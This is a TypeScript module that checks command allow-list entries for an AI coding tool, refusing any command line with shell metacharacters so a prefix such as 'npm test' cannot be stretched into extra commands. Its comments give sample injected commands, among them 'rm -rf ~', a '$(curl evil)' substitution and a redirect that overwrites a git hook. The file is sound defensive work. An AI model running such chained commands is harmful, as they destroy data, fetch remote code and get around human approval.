import { z } from 'zod';

/**
 * run_command's allow-list: command prefixes (`npm test`, `git diff`) a person need not approve.
 */

/**
 * What makes one command line several commands, or sends its output somewhere: `;`, `&` (`&&`,
 * background), `|`, a backtick, `$(` / `${`, `>`, `<`, a newline. A line holding any of them is
 * never covered by a prefix, because a prefix would then cover what follows it: `npm test` would
 * allow `npm test; rm -rf ~`, `npm test $(curl evil)` or `npm test > .git/hooks/pre-commit`.
 */
const SHELL_META = /[;&|`<>\n\r]|\$[({]/;

/** Why an allow-list entry cannot be used, or undefined. */
export function allowEntryProblem(entry: string): string | undefined {
  if (entry.trim() === '') return 'is empty';
  if (SHELL_META.test(entry)) return 'holds a shell metacharacter (; & | ` $( > < or a newline)';
  return undefined;
}

/** One allow-list entry, checked where it is configured (CodingToolOptions, LONGHAUL_COMMAND_ALLOW). */
export const CommandAllowEntry = z.string().superRefine((entry, ctx) => {
  const problem = allowEntryProblem(entry);
  if (problem) ctx.addIssue({ code: 'custom', message: `${JSON.stringify(entry)} ${problem}` });
});

const words = (line: string) => line.trim().split(/\s+/);

/**
 * Whether a prefix on the allow-list covers `command`: its words are the command's first words,
 * whole (`npm test` covers `npm test -- foo`, not `npm testx`), and the command has no shell
 * metacharacter (above).
 */
export function commandIsAllowed(command: string, allow: readonly string[]): boolean {
  if (SHELL_META.test(command)) return false;
  const given = words(command);
  return allow.some((entry) => {
    if (allowEntryProblem(entry)) return false;
    const prefix = words(entry);
    return prefix.length <= given.length && prefix.every((word, i) => given[i] === word);
  });
}
